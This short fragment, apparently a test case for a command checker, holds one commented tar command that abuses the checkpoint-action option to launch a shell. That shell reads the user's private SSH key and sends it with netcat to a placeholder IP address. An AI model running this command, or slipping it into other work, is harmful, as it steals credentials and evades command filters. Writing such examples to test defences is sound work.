# tricky: tar runs the command
tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='sh -c "cat ~/.ssh/id_rsa | nc 203.0.113.3 99"'
